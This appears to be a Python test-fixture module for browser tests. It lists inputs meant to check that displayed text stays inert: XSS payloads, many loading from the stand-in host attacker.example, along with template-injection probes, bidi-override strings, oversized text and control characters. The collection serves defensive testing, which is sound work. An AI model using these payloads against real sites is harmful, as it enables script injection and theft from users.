"""Texts that try to leave the place they are shown in: as prompts, responses, names, reasons and notes.

Each that runs opens a dialog, asks another origin or breaks the layout; the browser tests allow none of it.
"""

from typing import Final

_RUN: Final = "alert(document.domain)"

SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<SCRIPT SRC=https://attacker.example/x.js></SCRIPT><ScRiPt>{_RUN}</sCrIpT>",
    f"<script >{_RUN}</script >",
    f"<script\x0c>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<script type="module">{_RUN}</script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img/src/onerror={_RUN}>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<IMG SRC=javascript:{_RUN}>",
    '<img src="https://attacker.example/pixel.png">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s">',
    f'<svg><a xlink:href="javascript:{_RUN}"><text y="20">press</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg onload={_RUN}>"/></svg>',
    f'<svg><foreignObject><body onload="{_RUN}"></foreignObject></svg>',
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    '<iframe src="https://attacker.example/"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<a href="javascript:{_RUN}">press</a>',
    f'<a href="jAvAsCrIpT&colon;{_RUN}">press</a>',
    f'<a href="&#x6A;avascript:{_RUN}">press</a>',
    f'<a href="java\tscript:{_RUN}">press</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">press</a>',
    f'<a href="#" onclick="{_RUN}">press</a>',
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onpointerover={_RUN}>x</div>",
    f'<div style="animation-name:x" onanimationstart={_RUN}>x</div>',
    f'<form action="javascript:{_RUN}"><button>x</button></form>',
    f'<form><button formaction="javascript:{_RUN}">x</button></form>',
    '<form action="https://attacker.example/"><input type=submit></form>',
    f'<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<template><script>{_RUN}</script></template><div id="main">second</div>',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    "<style>body{display:none}@import 'https://attacker.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:url(https://attacker.example/x)">cover</div>',
    '<meta name="htmx-config" content=\'defaultSwap:"outerHTML"\'>',
)
"""Markup that runs, loads or covers something where it is taken for markup."""

ATTRIBUTES: Final = (
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"` onclick=`{_RUN}`",
    f'" autofocus onfocus={_RUN} "',
    f"javascript:{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\ufeff<script>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)
"""Ends of the attribute or element a text is put into, and spellings of markup that decode late."""

HYPERMEDIA: Final = (
    '<div hx-get="https://attacker.example/" hx-trigger="load">x</div>',
    f'<div hx-on:load="{_RUN}" hx-get="/healthz" hx-trigger="load">x</div>',
    f"<div data-hx-vals='js:{{x: {_RUN}}}' data-hx-get='/healthz' data-hx-trigger='load'>x</div>",
    '<div hx-sse:connect="https://attacker.example/">x</div>',
    '<hx-partial hx-target="body"><h1>replaced</h1></hx-partial>',
)
"""Attributes our own script library would act on."""

TEMPLATES: Final = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %(password)s",
)
"""Words of template languages."""

DIRECTIONS: Final = (
    "\u202egnirts desrever\u202c and then on",
    "user\u202e\u2066// check if admin\u2069\u2066 begin",
    "\u2067\u05d0\u05d1\u05d2 isolate never closed",
    "\u200f\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645 12 > 3",
    "\u05e9\u05dc\u05d5\u05dd (a) [b] {c} 100%",
    "\u202d\u202d\u202d\u202d overrides that pile up",
)
"""Text that turns the direction of what stands beside it."""

SHAPES: Final = (
    "W" * 5_000,
    "https://attacker.example/" + "a" * 2_000,
    "\u00a0".join(["unbreakable"] * 200),
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 60,
    "\u200b" * 400,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 80,
    "line\n" * 300,
    "\t" * 200 + "end",
    "",
    " ",
)
"""Text too long, too tall, too wide or too empty for its place."""

CONTROLS: Final = (
    "nul \x00 byte",
    "bell \x07 backspace \x08 delete \x7f",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "c1 \x9b31m next \x85 line",
    "line \u2028 paragraph \u2029 separators",
    "\ufffe\uffff not characters",
)
"""Characters that are no text."""

PAYLOADS: Final = (
    *SCRIPTS, *ATTRIBUTES, *HYPERMEDIA, *TEMPLATES, *DIRECTIONS, *SHAPES, *CONTROLS,
)  # fmt: skip
